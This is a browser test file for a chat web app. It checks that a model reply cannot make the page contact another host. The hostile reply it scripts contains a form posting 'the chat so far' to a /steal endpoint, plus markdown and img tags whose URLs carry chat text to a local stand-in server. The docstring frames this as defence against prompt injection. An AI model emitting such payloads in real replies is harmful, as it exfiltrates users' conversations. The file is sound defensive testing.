"""Model output stays inert in the page: a reply (a prompt injection, a hostile upstream) cannot load images from
another host (which would carry chat text out in the URL) nor submit a form anywhere but here."""

from __future__ import annotations

import pytest

from tests.conftest import ARTIFACTS
from tests.test_browser import chat, send, wait_for_footer  # noqa: F401  (the fixture)
from tests.test_trust_boundaries import Drip
from tests.upstream import Reply

pytestmark = pytest.mark.browser


@pytest.fixture
def elsewhere():
    server = Drip()
    yield server
    server.close()


def test_a_reply_cannot_reach_another_host(chat, upstream, elsewhere):  # noqa: F811
    page = chat
    base = f"http://127.0.0.1:{elsewhere.port}"
    hostile = (
        "Here you go.\n\n"
        f'<form action="{base}/steal" method="get"><input name="q" value="the chat so far">'
        '<button id="claim" type="submit">Claim your prize</button></form>\n\n'
        f"![pixel]({base}/leak.png?chat=the+chat+so+far)\n\n"
        f'<img src="{base}/leak2.png?chat=more">'
    )
    upstream.enqueue(Reply.text([hostile]))
    start = page.url
    send(page, "Tell me a secret")
    wait_for_footer(page, "scripted/scripted-1")
    claim = page.locator("#chatbot button:has-text('Claim your prize')")
    if claim.count():
        claim.first.evaluate("button => button.click()")  # submits the form, as a person clicking would
    page.wait_for_timeout(1500)  # give any image or form request time to go out
    page.screenshot(path=str(ARTIFACTS / "inert-reply.png"))
    assert elsewhere.headers == [], "the page sent a request to another host"
    assert page.url.split("?")[0] == start  # only the open chat's id joined the address
